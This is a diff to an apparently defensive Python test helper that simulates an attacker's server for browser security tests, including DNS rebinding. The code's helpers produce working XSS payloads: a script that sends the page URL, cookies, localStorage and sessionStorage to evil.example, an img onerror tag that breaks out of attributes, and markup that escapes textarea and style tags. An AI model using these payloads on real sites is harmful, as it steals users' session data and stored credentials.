@@ -1,4 +1,4 @@
-"""Somebody else's server: it has a page that attacks, and it notes whatever is sent to it."""
+"""An attacker's server: it serves a page that attacks, and records whatever is sent to it."""
 
 import json
 from collections.abc import AsyncIterator
@@ -9,32 +9,32 @@ from pathlib import Path
 from aiohttp import web
 
 PAGE = (Path(__file__).parent / "attack.html").read_text()
-# Names that Chromium is told to look for at 127.0.0.1. The second is the one that was made to point to us.
+# Names that Chromium resolves to 127.0.0.1. The second is the one for DNS rebinding.
 EVIL, REBOUND = "evil.example", "rebound.example"
 
 
 @dataclass
 class Elsewhere:
     port: int = 0
-    seen: list[str] = field(default_factory=list)  # what reached it, other than a request for its page
+    seen: list[str] = field(default_factory=list)  # requests other than those for its page
 
     def at(self, host: str = EVIL) -> str:
         return f"http://{host}:{self.port}"
 
     @property
     def script(self) -> str:
-        """Tells us that it ran, and what it found."""
+        """Return a script that reports that it ran, and what it found."""
         found = "JSON.stringify([location.href, document.cookie, {...localStorage}, {...sessionStorage}])"
         return f"window.ran=1;new Image().src='{self.at()}/ran?'+encodeURIComponent({found});fetch('{self.at()}/ran')"
 
     @property
     def short(self) -> str:
-        """Markup that fits into a name."""
+        """Return markup that is short enough for a name."""
         return f"\"'><img data-hostile src=//{EVIL}:{self.port}/name onerror=window.ran=1>"
 
     @property
     def markup(self) -> str:
-        """Ways to have something happen, where a text is taken for HTML. Each element can be found by its attribute."""
+        """Return markup that runs scripts in many ways if a text is taken for HTML. Each element can be found by its attribute."""
         run, there = self.script.replace('"', "&quot;"), self.at()
         return (
             f"\"'></textarea></title></style></template><script data-hostile>{self.script}</script>"
